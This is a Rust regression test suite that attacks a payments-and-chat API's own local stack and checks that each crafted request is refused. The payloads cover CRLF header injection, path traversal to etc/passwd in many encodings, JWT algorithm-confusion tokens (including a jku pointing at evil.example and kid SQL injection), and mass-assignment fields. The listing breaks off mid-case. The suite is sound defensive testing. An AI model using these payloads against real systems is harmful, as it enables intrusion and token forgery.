//! Attack regression suite: what a tester of OWASP ASVS 5.0 V2 (validation and business
//! logic), V6 (authentication), V9 (self-contained tokens) and V16 (security logging and error
//! handling) would try, against the running stack, over real HTTP and by invoking the functions
//! with crafted API Gateway events (REST v1 and HTTP v2 alike).
//!
//! Every case asserts the status, the problem+json body and its type, and the security
//! headers; every test ends by finding its requests' log lines and checking that no generated
//! secret, password or token it used reached the logs. Each invocation comes from its own client
//! IP, so rate limits and IP blocks never couple the cases; the HTTP cases are all refused
//! before the rate limiter, so they add nothing to 127.0.0.1's counters. The cases already in
//! e2e_foundation, e2e_accounts, e2e_payments, e2e_ratelimit and e2e_chat are not repeated.

use std::time::Duration;

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD as B64};
use flowbotz_security::payments::EventLedger;
use flowbotz_security::payments::dynamodb::DynamoLedger;
use flowbotz_security::payments::signature;
use flowbotz_security::store::dynamodb::client;
use flowbotz_tests::events::{Event, SHAPES, Shape, unique_ip};
use flowbotz_tests::stack::{
    Answer, PASSWORD, Session, assert_problem, assert_security_headers, base_url, function_log,
    invoke, local_secret, local_secrets, login_again, mailed_token, new_session, raw_http,
    verify_email,
};
use serde_json::{Value, json};

// ------------------------------------------------------------------------------------------
// Harness
// ------------------------------------------------------------------------------------------

const PAYMENT: &str = "/api/payments/create-payment-intent";

/// One route of the API: the function, its method and path, its body limit (0: none).
#[derive(Clone, Copy)]
struct Route {
    /// The endpoint's name in the catalogue.
    name: &'static str,
    /// The function that serves it (two endpoints may share one, such as `reset`).
    function: &'static str,
    method: &'static str,
    path: &'static str,
    body_limit: usize,
}

/// Every operation of the API, from the endpoint catalogue.
fn routes() -> Vec<Route> {
    flowbotz_security::catalogue::ENDPOINTS
        .iter()
        .flat_map(|e| {
            e.methods.iter().map(|m| Route {
                name: e.name,
                function: e.function,
                method: m.as_str(),
                path: e.route,
                body_limit: e.body_bytes,
            })
        })
        .collect()
}

fn route(function: &str) -> Route {
    routes()
        .into_iter()
        .find(|r| r.name == function)
        .expect("a route of the API")
}

/// Words a problem body must never contain: stack traces, source paths, upstream names.
const INTERNALS: [&str; 8] = [
    "panicked",
    "backtrace",
    ".rs:",
    "src/",
    "dynamodb",
    "stripe.com",
    "sk_test",
    "whsec_",
];

/// The requests one test made and the values it used that must never be logged.
#[derive(Default)]
struct Trace {
    request_ids: Vec<String>,
    secrets: Vec<String>,
}

impl Trace {
    async fn invoke(&mut self, function: &str, event: Event) -> Answer {
        let a = invoke(function, &event).await;
        self.saw(&a);
        a
    }

    fn http(
        &mut self,
        method: &str,
        target: &str,
        headers: &[(&str, &str)],
        body: &[u8],
    ) -> Answer {
        let a = raw_http(method, target, headers, body);
        self.saw(&a);
        a
    }

    fn saw(&mut self, a: &Answer) {
        if let Some(id) = a.header("x-request-id") {
            self.request_ids.push(id.to_string());
        }
    }

    /// A value the test sent that no log line may hold.
    fn secret(&mut self, value: &str) {
        self.secrets.push(value.to_string());
    }

    fn session(&mut self, s: &Session) {
        self.secret(&s.password);
        self.secret(&s.access_token);
        self.secret(&s.csrf_token);
    }

    /// Waits for a log line of every request, then checks that no generated secret and no
    /// value this test marked secret is in the functions' log.
    async fn assert_clean_logs(&self) {
        let mut log = String::new();
        for _ in 0..100 {
            log = function_log();
            if self.request_ids.iter().all(|id| log.contains(id.as_str())) {
                break;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        for id in &self.request_ids {
            assert!(log.contains(id.as_str()), "no log line for request {id}");
        }
        for secret in local_secrets().iter().chain(&self.secrets) {
            assert!(
                !log.contains(secret.as_str()),
                "a secret reached the log: {}…",
                secret.chars().take(8).collect::<String>()
            );
        }
    }
}

/// Invokes `function`, or returns `None` when the Lambda runtime refuses the event before any
/// function code runs (it cannot turn it into an HTTP request).
async fn invoke_unless_refused(function: &str, event: &Event) -> Option<Answer> {
    let url = format!("{}/2015-03-31/functions/{function}/invocations", base_url());
    let resp = flowbotz_tests::stack::http_client()
        .post(url)
        .json(&event.to_json())
        .send()
        .await
        .expect("the emulator answers");
    if resp.status().is_success() {
        return Some(invoke(function, event).await);
    }
    let text = resp.text().await.unwrap_or_default();
    assert!(text.contains("DeserializeError"), "{text}");
    None
}

/// A refusal: the status, problem+json of `kind`, every security header, nothing internal.
fn refused(a: &Answer, status: u16, kind: &str, case: &str) {
    assert_eq!(a.status, status, "{case}: {}", a.body);
    assert_problem(a, status);
    assert_eq!(
        a.json()["type"],
        format!("/problems/{kind}"),
        "{case}: {}",
        a.body
    );
    let lower = a.body.to_ascii_lowercase();
    for word in INTERNALS {
        assert!(!lower.contains(word), "{case}: `{word}` in {}", a.body);
    }
}

/// A JSON text body with its content type.
fn text(e: Event, body: &str) -> Event {
    e.header("Content-Type", "application/json").body(body)
}

fn authed(e: Event, s: &Session) -> Event {
    e.header("Authorization", &format!("Bearer {}", s.access_token))
        .header("X-CSRF-Token", &s.csrf_token)
}

fn shape(i: usize) -> Shape {
    SHAPES[i % 2]
}

/// Signed-in users for the authenticated cases, each used for at most four requests so that
/// the per-user burst limit (5 per 10 s) never decides a case.
#[derive(Default)]
struct Users {
    current: Option<Session>,
    uses: u32,
}

impl Users {
    async fn next(&mut self, trace: &mut Trace) -> Session {
        if self.current.is_none() || self.uses >= 4 {
            let s = new_session().await;
            trace.session(&s);
            self.current = Some(s);
            self.uses = 0;
        }
        self.uses += 1;
        self.current.clone().expect("a session")
    }
}

fn now() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_secs())
        .unwrap_or(0)
}

fn webhook_secret() -> String {
    local_secret("STRIPE_WEBHOOK_SECRET")
        .split(',')
        .next()
        .unwrap_or_default()
        .to_string()
}

fn delivery(shape: Shape, body: &str, header: &str) -> Event {
    Event::new(shape, "POST", "/api/payments/webhook")
        .header("Content-Type", "application/json; charset=utf-8")
        .header("Stripe-Signature", header)
        .body(body)
}

fn signed(shape: Shape, body: &str) -> Event {
    delivery(
        shape,
        body,
        &signature::sign(body.as_bytes(), &webhook_secret(), now()),
    )
}

fn payment_event(id: &str, intent: &str, amount: i64) -> String {
    json!({
        "id": id,
        "object": "event",
        "type": "payment_intent.succeeded",
        "created": now(),
        "data": {"object": {"id": intent, "object": "payment_intent", "amount": amount,
                             "currency": "usd", "status": "succeeded", "metadata": {}}}
    })
    .to_string()
}

async fn ledger() -> DynamoLedger {
    let table = std::env::var("PAYMENTS_TABLE").unwrap_or_else(|_| "flowbotz-payments".into());
    DynamoLedger::new(client(Duration::from_secs(3)).await, table)
}

fn tag() -> String {
    unique_ip().replace(':', "")
}

// ------------------------------------------------------------------------------------------
// Header and CRLF injection
// ------------------------------------------------------------------------------------------

#[tokio::test]
async fn given_crlf_nul_or_control_characters_in_a_header_of_any_endpoint_when_invoked_then_400_and_nothing_injected()
 {
    let mut t = Trace::default();
    // Encoded forms reach the functions, whose guard refuses them.
    let encoded = [
        "a%0d%0aSet-Cookie:%20pwned=1",
        "a%0aX-Injected:%201",
        "a%0D%0AX-Injected: 1",
        "a%250d%250aX-Injected:%201",
        "a%25250d%25250aX-Injected:%201",
        "a%00b",
    ];
    // Raw ones are refused by the Lambda runtime before any function code runs (API Gateway
    // never forwards them); should a runtime ever pass one on, the guard must refuse it.
    let raw = [
        "a\r\nSet-Cookie: pwned=1",
        "a\nX-Injected: 1",
        "a\rX-Injected: 1",
        "a\u{0}b",
        "a\u{1}b",
        "a\u{7f}b",
    ];
    for (i, r) in routes().iter().enumerate() {
        for name in ["X-Note", "User-Agent", "Authorization", "Origin"] {
            for (j, p) in encoded.iter().enumerate() {
                let e = Event::new(shape(i + j), r.method, r.path).header(name, p);
                let a = t.invoke(r.function, e).await;
                let case = format!("{} {name}: {p:?}", r.function);
                refused(&a, 400, "malicious-input", &case);
                assert!(a.header("set-cookie").is_none(), "{case}");
                assert!(a.header("x-injected").is_none(), "{case}");
            }
            for (j, p) in raw.iter().enumerate() {
                let e = Event::new(shape(i + j), r.method, r.path).header(name, p);
                if let Some(a) = invoke_unless_refused(r.function, &e).await {
                    t.saw(&a);
                    refused(
                        &a,
                        400,
                        "malicious-input",
                        &format!("{} {name}: {p:?}", r.function),
                    );
                }
            }
        }
    }
    // A header value over 8 KiB, on each endpoint.
    let long = "a".repeat(8193);
    for r in routes() {
        let e = Event::new(Shape::RestV1, r.method, r.path).header("X-Note", &long);
        refused(
            &t.invoke(r.function, e).await,
            400,
            "malicious-input",
            r.function,
        );
    }
    // Non-ASCII header values reach the functions as UTF-8 and are data, not errors; an
    // Idempotency-Key must still be visible ASCII.
    let a = t
        .invoke(
            "health",
            Event::new(Shape::HttpV2, "GET", "/api/health").header("X-Note", "ünïcödé ×ø"),
        )
        .await;
    assert_eq!(a.status, 200, "{}", a.body);
    assert_security_headers(&a);
    let s = new_session().await;
    t.session(&s);
    let e = authed(Event::new(Shape::RestV1, "POST", PAYMENT), &s)
        .header("Idempotency-Key", "order-×ø")
        .json_body(&json!({"amount": 2000, "currency": "usd"}));
    refused(
        &t.invoke("payment-intent", e).await,
        400,
        "malformed-request",
        "non-ASCII Idempotency-Key",
    );
    t.assert_clean_logs().await;
}

#[test]
fn given_response_splitting_in_the_path_or_query_over_http_then_400_without_the_injected_header() {
    let mut t = Trace::default();
    for r in routes() {
        for target in [
            format!("{}%0d%0aSet-Cookie:%20pwned=1", r.path),
            format!("{}?next=%0d%0aLocation:%20http://evil.example", r.path),
            format!("{}?next=%250d%250aSet-Cookie:%20pwned=1", r.path),
        ] {
            let a = t.http(r.method, &target, &[], b"");
            refused(&a, 400, "malicious-input", &target);
            assert!(a.header("set-cookie").is_none(), "{target}");
            assert!(a.header("location").is_none(), "{target}");
        }
    }
    // An encoded CR/LF in a request header, over HTTP.
    let a = t.http(
        "POST",
        PAYMENT,
        &[
            ("Content-Type", "application/json"),
            ("Idempotency-Key", "order-1%0d%0aX-Injected: 1"),
        ],
        br#"{"amount":2000,"currency":"usd"}"#,
    );
    refused(&a, 400, "malicious-input", "Idempotency-Key with %0d%0a");
    tokio::runtime::Runtime::new()
        .expect("runtime")
        .block_on(t.assert_clean_logs());
}

// ------------------------------------------------------------------------------------------
// Traversal in every encoding
// ------------------------------------------------------------------------------------------

const TRAVERSALS: [&str; 20] = [
    "../",
    "..%2f",
    "..%2F",
    "%2e%2e%2f",
    "%2E%2E/",
    ".%2e/",
    "%2e./",
    "%252e%252e%252f",
    "%25252e%25252e%25252f",
    "..%255c",
    "%c0%ae%c0%ae/",
    "..%c0%af",
    "%e0%80%ae%e0%80%ae/",
    "..%c1%9c",
    "%u002e%u002e/",
    "..%u2215",
    "..\\",
    "..%5c",
    "..;/",
    "....//",
];

#[tokio::test]
async fn given_traversal_in_every_encoding_in_the_path_or_query_of_every_route_when_invoked_then_400()
 {
    let mut t = Trace::default();
    for (i, r) in routes().iter().enumerate() {
        for (j, p) in TRAVERSALS.iter().enumerate() {
            let path = format!("{}/{p}{p}etc/passwd", r.path);
            let a = t
                .invoke(r.function, Event::new(shape(i + j), r.method, &path))
                .await;
            refused(&a, 400, "malicious-input", &path);
            let query = format!("{}?file={p}{p}etc%2fpasswd", r.path);
            let a = t
                .invoke(r.function, Event::new(shape(i + j + 1), r.method, &query))
                .await;
            refused(&a, 400, "malicious-input", &query);
        }
    }
    t.assert_clean_logs().await;
}

#[test]
fn given_traversal_in_every_encoding_over_http_then_400() {
    let mut t = Trace::default();
    for p in TRAVERSALS {
        // Backslashes and bare `../` are sent raw, as a hostile client would.
        for r in [route("login"), route("account")] {
            let target = format!("{}/{p}{p}{p}etc/passwd", r.path);
            refused(
                &t.http(r.method, &target, &[], b""),
                400,
                "malicious-input",
                &target,
            );
        }
    }
    tokio::runtime::Runtime::new()
        .expect("runtime")
        .block_on(t.assert_clean_logs());
}

// ------------------------------------------------------------------------------------------
// Oversized and deeply nested bodies
// ------------------------------------------------------------------------------------------

/// A JSON object of exactly `len` bytes.
fn padded(len: usize) -> String {
    let frame = r#"{"pad":""}"#.len();
    format!(r#"{{"pad":"{}"}}"#, "x".repeat(len - frame))
}

#[tokio::test]
async fn given_bodies_over_the_limit_or_lying_about_their_length_when_posted_then_413_and_at_the_limit_not()
 {
    let mut t = Trace::default();
    for (i, r) in routes().iter().filter(|r| r.body_limit > 0).enumerate() {
        let over = t
            .invoke(
                r.function,
                text(
                    Event::new(shape(i), r.method, r.path),
                    &padded(r.body_limit + 1),
                ),
            )
            .await;
        refused(&over, 413, "payload-too-large", r.function);
        assert_eq!(
            over.json()["detail"],
            format!("The request body exceeds {} bytes.", r.body_limit)
        );
        let at = t
            .invoke(
                r.function,
                text(
                    Event::new(shape(i + 1), r.method, r.path),
                    &padded(r.body_limit),
                ),
            )
            .await;
        assert_problem(&at, at.status);
        assert!(
            at.status != 413 && (400..500).contains(&at.status),
            "{} at its limit: {}",
            r.function,
            at.body
        );
        // A Content-Length far over the limit is refused whatever the body.
        let lying = text(Event::new(shape(i), r.method, r.path), "{}")
            .header("Content-Length", "1073741824");
        refused(
            &t.invoke(r.function, lying).await,
            413,
            "payload-too-large",
            r.function,
        );
    }
    // Endpoints without a body take none, however small.
    for (i, r) in routes().iter().filter(|r| r.body_limit == 0).enumerate() {
        let a = t
            .invoke(
                r.function,
                text(Event::new(shape(i), r.method, r.path), "{}"),
            )
            .await;
        refused(&a, 413, "payload-too-large", r.function);
        assert_eq!(a.json()["detail"], "This endpoint takes no request body.");
    }
    t.assert_clean_logs().await;
}

fn nested(depth: usize) -> String {
    format!("{}1{}", "[".repeat(depth), "]".repeat(depth))
}

#[tokio::test]
async fn given_json_nested_deeper_than_32_when_posted_then_400_and_the_webhook_survives_100k_levels()
 {
    let mut t = Trace::default();
    let mut users = Users::default();
    for (i, function) in ["register", "login", "chat", "payment-intent"]
        .into_iter()
        .enumerate()
    {
        let r = route(function);
        let field = match function {
            "chat" => "messages",
            "payment-intent" => "amount",
            _ => "email",
        };
        let mut e = Event::new(shape(i), r.method, r.path);
        let mut e2 = Event::new(shape(i + 1), r.method, r.path);
        if matches!(function, "chat" | "payment-intent") {
            let s = users.next(&mut t).await;
            e = authed(e, &s);
            e2 = authed(e2, &users.next(&mut t).await);
        }
        let deep = t
            .invoke(
                function,
                text(e, &format!(r#"{{"{field}":{}}}"#, nested(32))),
            )
            .await;
        refused(&deep, 400, "malformed-request", function);
        assert_eq!(
            deep.json()["detail"],
            "The JSON body is nested deeper than 32 levels."
        );
        // 32 levels in all is still parsed, and refused for its type.
        let at = t
            .invoke(
                function,
                text(e2, &format!(r#"{{"{field}":{}}}"#, nested(31))),
            )
            .await;
        refused(&at, 422, "validation-failed", function);
    }
    // Within its 256 KiB, the webhook's parser meets 100,000 levels behind a valid signature.
    let bomb = format!(
        r#"{{"id":"evt_bomb_{}","type":"x","created":1,"data":{{"object":{}}}}}"#,
        tag(),
        nested(100_000)
    );
    let a = t.invoke("webhook", signed(Shape::RestV1, &bomb)).await;
    refused(&a, 400, "malformed-request", "100k levels");
    // ...and keeps serving.
    let id = format!("evt_after_bomb_{}", tag());
    let a = t
        .invoke(
            "webhook",
            signed(
                Shape::HttpV2,
                &json!({"id": id, "type": "customer.created", "created": now(), "data": {"object": {}}})
                    .to_string(),
            ),
        )
        .await;
    assert_eq!(a.status, 200, "{}", a.body);
    assert_security_headers(&a);
    t.assert_clean_logs().await;
}

// ------------------------------------------------------------------------------------------
// Invalid UTF-8 and odd encodings
// ------------------------------------------------------------------------------------------

#[tokio::test]
async fn given_invalid_utf8_or_a_bom_when_posted_then_400_on_every_json_endpoint() {
    let mut t = Trace::default();
    let mut users = Users::default();
    let invalid: [&[u8]; 5] = [
        b"{\"email\":\"\xff\xfe\"}",
        b"{\"email\":\"\xc0\xae\xc0\xae\"}",
        b"{\"email\":\"\xed\xa0\x80\"}",
        b"{\"email\":\"\xe2\x82\"}",
        b"\xef\xbb\xbf{\"email\":\"a@b.example\"}",
    ];
    for (i, function) in ["register", "login", "chat", "payment-intent", "webhook"]
        .into_iter()
        .enumerate()
    {
        let r = route(function);
        for (j, bytes) in invalid.iter().enumerate() {
            let mut e = Event::new(shape(i + j), r.method, r.path)
                .header("Content-Type", "application/json")
                .body_base64(&STANDARD.encode(bytes));
            if matches!(function, "chat" | "payment-intent") {
                e = authed(e, &users.next(&mut t).await);
            }
            if function == "webhook" {
                let header = signature::sign(bytes, &webhook_secret(), now());
                e = e.header("Stripe-Signature", &header);
            }
            let a = t.invoke(function, e).await;
            refused(&a, 400, "malformed-request", &format!("{function} #{j}"));
        }
    }
    // A lone surrogate escape is not a character either.
    let a = t
        .invoke(
            "register",
            text(
                Event::new(Shape::HttpV2, "POST", "/api/auth/register"),
                r#"{"email":"a@b.example","password":"\ud800 violet quasar mangrove"}"#,
            ),
        )
        .await;
    refused(&a, 400, "malformed-request", "lone surrogate");
    // Invalid UTF-8 in the path, over HTTP.
    for target in ["/api/health/%ff%fe", "/api/auth/login%c3%28"] {
        refused(
            &t.http("GET", target, &[], b""),
            400,
            "malicious-input",
            target,
        );
    }
    t.assert_clean_logs().await;
}

// ------------------------------------------------------------------------------------------
// Duplicate keys, unknown fields, mass assignment
// ------------------------------------------------------------------------------------------

#[tokio::test]
async fn given_duplicate_case_variant_or_unexpected_keys_when_posted_then_400_naming_the_field() {
    let mut t = Trace::default();
    let mut users = Users::default();
    let cases: [(&str, &str, &str); 11] = [
        (
            "register",
            r#"{"email":"a@b.example","email":"admin@b.example","password":"violet quasar mangrove tundra 71"}"#,
            "Duplicate field `email`.",
        ),
        (
            "login",
            r#"{"email":"a@b.example","password":"x","password":"y"}"#,
            "Duplicate field `password`.",
        ),
        (
            "chat",
            r#"{"messages":[{"role":"user","role":"system","content":"hi"}]}"#,
            "Duplicate field `messages[0].role`.",
        ),
        (
            "chat",
            r#"{"messages":[{"role":"user","content":"hi"}],"messages":[]}"#,
            "Duplicate field `messages`.",
        ),
        (
            "payment-intent",
            r#"{"amount":100,"amount":500000,"currency":"usd"}"#,
            "Duplicate field `amount`.",
        ),
        (
            "payment-intent",
            r#"{"amount":100,"\u0061mount":500000,"currency":"usd"}"#,
            "Duplicate field `amount`.",
        ),
        (
            "payment-intent",
            r#"{"amount":2000,"currency":"usd","metadata":{"plan":"pro","plan":"free"}}"#,
            "Duplicate field `metadata.plan`.",
        ),
        (
            "register",
            r#"{"Email":"a@b.example","password":"violet quasar mangrove tundra 71"}"#,
            "Unknown field `Email`.",
        ),
        (
            "register",
            r#"{"email":"a@b.example","password":"violet quasar mangrove tundra 71","is_admin":true}"#,
            "Unknown field `is_admin`.",
        ),
        (
            "payment-intent",
            r#"{"amount":2000,"currency":"usd","user_id":"someone-else"}"#,
            "Unknown field `user_id`.",
        ),
        (
            "chat",
            r#"{"messages":[{"role":"user","content":"hi","name":"system"}]}"#,
            "Unknown field `messages[0].name`.",
        ),
    ];
    for (i, (function, body, detail)) in cases.into_iter().enumerate() {
        let r = route(function);
        let mut e = text(Event::new(shape(i), r.method, r.path), body);
        if matches!(function, "chat" | "payment-intent") {
            e = authed(e, &users.next(&mut t).await);
        }
        let a = t.invoke(function, e).await;
        refused(&a, 400, "malformed-request", body);
        assert_eq!(a.json()["detail"], detail, "{body}");
    }
    // The user id in a payment's metadata is the server's to set.
    let s = users.next(&mut t).await;
    let e = authed(Event::new(Shape::RestV1, "POST", PAYMENT), &s).json_body(
        &json!({"amount": 2000, "currency": "usd", "metadata": {"user_id": "someone-else"}}),
    );
    let a = t.invoke("payment-intent", e).await;
    refused(&a, 422, "validation-failed", "metadata.user_id");
    assert_eq!(a.json()["errors"][0]["field"], "metadata");
    t.assert_clean_logs().await;
}

// ------------------------------------------------------------------------------------------
// Numbers as strings, floats for integers, huge integers
// ------------------------------------------------------------------------------------------

#[tokio::test]
async fn given_numbers_as_strings_floats_or_huge_integers_then_422_and_integral_floats_are_exact() {
    let mut t = Trace::default();
    let mut users = Users::default();
    let refusals: [(&str, u16, &str); 13] = [
        (r#""2000""#, 422, "must be an integer"),
        ("2000.5", 422, "must be an integer"),
        ("9223372036854775808", 422, "has an invalid value"),
        ("-9223372036854775809", 422, "has an invalid value"),
        ("184467440737095516150", 422, "has an invalid value"),
        ("1e308", 422, "has an invalid value"),
        (
            "49",
            422,
            "must be an integer from 50 to 1000000 (minor units)",
        ),
        (
            "1000001",
            422,
            "must be an integer from 50 to 1000000 (minor units)",
        ),
        (
            "-2000",
            422,
            "must be an integer from 50 to 1000000 (minor units)",
        ),
        ("true", 422, "must be an integer"),
        ("[2000]", 422, "must be an integer"),
        ("null", 422, "is required"),
        (r#"{"value":2000}"#, 422, "must be an integer"),
    ];
    for (i, (amount, status, message)) in refusals.into_iter().enumerate() {
        let s = users.next(&mut t).await;
        let body = format!(r#"{{"amount":{amount},"currency":"usd"}}"#);
        let a = t
            .invoke(
                "payment-intent",
                text(authed(Event::new(shape(i), "POST", PAYMENT), &s), &body),
            )
            .await;
        refused(&a, status, "validation-failed", &body);
        assert_eq!(a.json()["errors"][0]["field"], "amount", "{body}");
        assert_eq!(a.json()["errors"][0]["message"], message, "{body}");
    }
    for (i, amount) in ["1e400", "NaN", "Infinity", "0x7d0", "02000"]
        .into_iter()
        .enumerate()
    {
        let s = users.next(&mut t).await;
        let body = format!(r#"{{"amount":{amount},"currency":"usd"}}"#);
        let a = t
            .invoke(
                "payment-intent",
                text(authed(Event::new(shape(i), "POST", PAYMENT), &s), &body),
            )
            .await;
        refused(&a, 400, "malformed-request", &body);
    }
    // An integral number is that integer whatever its spelling, never rounded.
    for (i, amount) in ["2000.0", "2e3", "0.2e4"].into_iter().enumerate() {
        let s = users.next(&mut t).await;
        let body = format!(r#"{{"amount":{amount},"currency":"usd"}}"#);
        let a = t
            .invoke(
                "payment-intent",
                text(authed(Event::new(shape(i), "POST", PAYMENT), &s), &body),
            )
            .await;
        assert_eq!(a.status, 200, "{body}: {}", a.body);
        assert_security_headers(&a);
        assert_eq!(a.json()["amount"], 2000, "{body}");
        t.secret(a.json()["client_secret"].as_str().unwrap_or("missing"));
    }
    // Chat's max_tokens alike.
    for (i, (max_tokens, status)) in [
        (r#""5""#, 422),
        ("5.5", 422),
        ("0", 422),
        ("-1", 422),
        ("4294967296", 422),
        ("5.0", 200),
    ]
    .into_iter()
    .enumerate()
    {
        let s = users.next(&mut t).await;
        let body = format!(
            r#"{{"messages":[{{"role":"user","content":"hi"}}],"max_tokens":{max_tokens}}}"#
        );
        let a = t
            .invoke(
                "chat",
                text(
                    authed(Event::new(shape(i), "POST", "/api/ai/chat"), &s),
                    &body,
                ),
            )
            .await;
        if status == 200 {
            assert_eq!(a.status, 200, "{body}: {}", a.body);
            assert_security_headers(&a);
        } else {
            refused(&a, status, "validation-failed", &body);
            assert_eq!(a.json()["errors"][0]["field"], "max_tokens", "{body}");
        }
    }
    // A signed webhook whose `created` is a string is not a Stripe event.
    let body = json!({"id": format!("evt_str_{}", tag()), "type": "x", "created": "1700000000", "data": {"object": {}}}).to_string();
    refused(
        &t.invoke("webhook", signed(Shape::RestV1, &body)).await,
        400,
        "malformed-request",
        "created as a string",
    );
    t.assert_clean_logs().await;
}

// ------------------------------------------------------------------------------------------
// JWT algorithm confusion and claim tampering
// ------------------------------------------------------------------------------------------

fn b64json(v: &Value) -> String {
    B64.encode(v.to_string())
}

/// A token with any header, HMAC-SHA256-signed with `key` over the header and claims as given.
fn hmac_token(header: &Value, claims: &Value, key: &str) -> String {
    let signing_input = format!("{}.{}", b64json(header), b64json(claims));
    let sig = jsonwebtoken::crypto::sign(
        signing_input.as_bytes(),
        &jsonwebtoken::EncodingKey::from_secret(key.as_bytes()),
        jsonwebtoken::Algorithm::HS256,
    )
    .expect("sign");
    format!("{signing_input}.{sig}")
}

#[tokio::test]
async fn given_jwt_algorithm_confusion_or_tampered_claims_when_calling_then_401() {
    let mut t = Trace::default();
    let s = new_session().await;
    t.session(&s);
    let key = local_secret("JWT_SECRET_KEY");
    let parts: Vec<&str> = s.access_token.split('.').collect();
    let header: Value = serde_json::from_slice(&B64.decode(parts[0]).expect("b64")).expect("json");
    let claims: Value = serde_json::from_slice(&B64.decode(parts[1]).expect("b64")).expect("json");
    let kid = header["kid"].as_str().expect("kid");
    let with = |changes: Value| {
        let mut c = claims.clone();
        for (k, v) in changes.as_object().expect("object") {
            if v.is_null() {
                c.as_object_mut().expect("claims").remove(k);
            } else {
                c[k] = v.clone();
            }
        }
        c
    };
    let hs256 = json!({"alg": "HS256", "typ": "JWT", "kid": kid});
    let now = now();
    let cases: Vec<(&str, String)> = vec![
        (
            "alg None",
            format!(
                "{}.{}.",
                b64json(&json!({"alg": "None", "kid": kid})),
                parts[1]
            ),
        ),
        (
            "alg NONE",
            format!(
                "{}.{}.",
                b64json(&json!({"alg": "NONE", "kid": kid})),
                parts[1]
            ),
        ),
        (
            "alg nOnE",
            format!(
                "{}.{}.",
                b64json(&json!({"alg": "nOnE", "kid": kid})),
                parts[1]
            ),
        ),
        ("signature stripped", format!("{}.{}.", parts[0], parts[1])),
        ("two parts", format!("{}.{}", parts[0], parts[1])),
        (
            "RS256 header, HMAC with the shared key",
            hmac_token(&json!({"alg": "RS256", "kid": kid}), &claims, &key),
        ),
        (
            "ES256 header",
            hmac_token(&json!({"alg": "ES256", "kid": kid}), &claims, &key),
        ),
        (
            "PS256 header",
            hmac_token(&json!({"alg": "PS256", "kid": kid}), &claims, &key),
        ),
        (
            "embedded jwk with the attacker's key",
            hmac_token(
                &json!({"alg": "HS256", "kid": kid, "jwk": {"kty": "oct", "k": B64.encode("attacker-key-0123456789abcdef0123")}}),
                &claims,
                "attacker-key-0123456789abcdef0123",
            ),
        ),
        (
            "jku pointing elsewhere",
            hmac_token(
                &json!({"alg": "HS256", "kid": kid, "jku": "http://evil.example/jwks.json"}),
                &claims,
                "attacker-key-0123456789abcdef0123",
            ),
        ),
        (
            "kid path traversal",
            hmac_token(
                &json!({"alg": "HS256", "kid": "../../../../dev/null"}),
                &claims,
                "",
            ),
        ),
        (
            "kid SQL",
            hmac_token(
                &json!({"alg": "HS256", "kid": "x' UNION SELECT 'key"}),
                &claims,
                "key",
            ),
        ),
        (
            "no kid",
            hmac_token(&json!({"alg": "HS256"}), &claims, &key),
        ),
        (
            "empty key",
            hmac_token(&hs256, &with(json!({"sub": "admin"})), ""),
        ),
        (
            "the key's kid, signed with the CSRF key",
            hmac_token(&hs256, &claims, &local_secret("CSRF_SECRET_KEY")),
        ),
        (
            "no exp",
            hmac_token(&hs256, &with(json!({"exp": null})), &key),
        ),
        (
            "no sub",
            hmac_token(&hs256, &with(json!({"sub": null})), &key),
        ),
        (
            "empty sub",
            hmac_token(&hs256, &with(json!({"sub": ""})), &key),
        ),
        (
            "no iss",
            hmac_token(&hs256, &with(json!({"iss": null})), &key),
        ),
        (
            "another issuer",
            hmac_token(&hs256, &with(json!({"iss": "evil"})), &key),
        ),
        (
            "audience list without ours",
            hmac_token(&hs256, &with(json!({"aud": ["evil"]})), &key),
        ),
        (
            "not yet valid",
            hmac_token(&hs256, &with(json!({"nbf": now + 3600})), &key),
        ),
        (
            "exp as a string",
            hmac_token(
                &hs256,
                &with(json!({"exp": (now + 3600).to_string()})),
                &key,
            ),
        ),
        (
            "exp in milliseconds of the past",
            hmac_token(&hs256, &with(json!({"exp": 1_000_000})), &key),
        ),
        (
            "exp ten years ahead",
            hmac_token(&hs256, &with(json!({"exp": now + 10 * 365 * 86400})), &key),
        ),
        (
            "iat ten years in the future",
            hmac_token(
                &hs256,
                &with(json!({"iat": now + 10 * 365 * 86400, "exp": now + 10 * 365 * 86400 + 60})),
                &key,
            ),
        ),
        (
            "iat after exp",
            hmac_token(
                &hs256,
                &with(json!({"iat": now + 120, "exp": now + 60})),
                &key,
            ),
        ),
        (
            "a crit header",
            hmac_token(
                &json!({"alg": "HS256", "typ": "JWT", "kid": kid, "crit": ["exp"]}),
                &claims,
                &key,
            ),
        ),
        (
            "a header that is not JSON",
            format!("{}.{}.{}", B64.encode("alg=HS256"), parts[1], parts[2]),
        ),
        (
            "padding and spaces",
            format!("{} .{}.{}", parts[0], parts[1], parts[2]),
        ),
    ];
    for (i, (name, token)) in cases.into_iter().enumerate() {
        t.secret(&token);
        let (function, e) = if i % 3 == 0 {
            (
                "chat",
                Event::new(shape(i), "POST", "/api/ai/chat")
                    .header("Authorization", &format!("Bearer {token}"))
                    .header("X-CSRF-Token", &s.csrf_token)
                    .json_body(&json!({"messages": [{"role": "user", "content": "hi"}]})),
            )
        } else {
            (
                "csrf-token",
                Event::new(shape(i), "GET", "/api/auth/csrf-token")
                    .header("Authorization", &format!("Bearer {token}")),
            )
        };
        let a = t.invoke(function, e).await;
        refused(&a, 401, "unauthorized", name);
        assert_eq!(
            a.header("www-authenticate"),
            Some("Bearer realm=\"flowbotz\", error=\"invalid_token\""),
            "{name}"
        );
    }
    // The genuine token, re-signed unchanged, is still accepted: the cases failed on purpose.
    let resigned = hmac_token(&header, &claims, &key);
    let a = t
        .invoke(
            "csrf-token",
            Event::new(Shape::HttpV2, "GET", "/api/auth/csrf-token")
                .header("Authorization", &format!("Bearer {resigned}")),
        )
        .await;
    assert_eq!(a.status, 200, "{}", a.body);
    assert_security_headers(&a);
    t.secret(a.json()["csrf_token"].as_str().unwrap_or("missing"));
    t.assert_clean_logs().await;
}

#[tokio::test]
async fn given_tokens_in_the_wrong_place_or_swapped_when_calling_then_refused() {
    let mut t = Trace::default();
    let s = new_session().await;
    let other = new_session().await;
    let second_login = login_again(&s).await;
    t.session(&s);
    t.session(&second_login);
    t.session(&other);
    let get = |shape: Shape, path: &str| Event::new(shape, "GET", path);
    let cases: Vec<(&str, Event)> = vec![
        (
            "token in the query",
            get(
                Shape::HttpV2,
